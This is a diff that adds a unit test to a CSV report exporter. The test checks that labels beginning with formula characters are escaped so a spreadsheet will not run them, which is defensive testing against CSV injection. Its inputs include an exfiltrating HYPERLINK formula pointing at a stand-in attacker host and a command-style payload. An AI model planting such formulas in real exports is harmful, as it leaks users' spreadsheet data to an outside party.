@@ -60,6 +60,18 @@ describe('the CSV of what a report shows', () => {
     expect(lines(csv)).toEqual(['Secció,Pàgines vistes,Visitants', '"Notícies, ""avui""",120,30', 'Esports,40,9', '']);
   });
 
+  it.each([
+    ['=', '=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
+    ['+', '+1+cmd', `"'+1+cmd"`],
+    ['-', '-2+3', `"'-2+3"`],
+    ['@', '@SUM(A1)', `"'@SUM(A1)"`],
+    ['a tab', '\t=1+1', `"'\t=1+1"`],
+    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
+  ])('writes a label that starts with %s as text a spreadsheet will not run', (_name, label, cell) => {
+    const csv = reportCsv({ ...ANSWER, rows: [{ ...ANSWER.rows[0]!, label }] });
+    expect(lines(csv)[1]).toBe(`${cell},120,100,20,30,40,-25`);
+  });
+
   it('is named after the report and its days', () => {
     expect(reportCsvName(ANSWER)).toBe('mesura-content-sections-2026-11-24-2026-11-24.csv');
   });
